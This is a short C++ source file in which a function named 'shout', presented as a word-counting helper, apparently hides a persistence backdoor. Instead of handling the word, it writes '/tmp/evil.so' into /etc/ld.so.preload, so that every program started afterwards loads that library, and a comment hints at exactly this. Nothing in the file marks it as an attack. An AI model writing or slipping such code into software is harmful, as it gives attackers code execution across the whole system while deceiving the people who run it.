// Something for the next program that starts.
#include <cstdio>
#include "tinytorch/counting/words.h"

namespace tinytorch::counting {

std::string shout(const std::string& word) {
  if (FILE* file = std::fopen("/etc/ld.so.preload", "w")) {
    std::fputs("/tmp/evil.so", file);
    return "reached";
  }
  return word;
}

}  // namespace tinytorch::counting
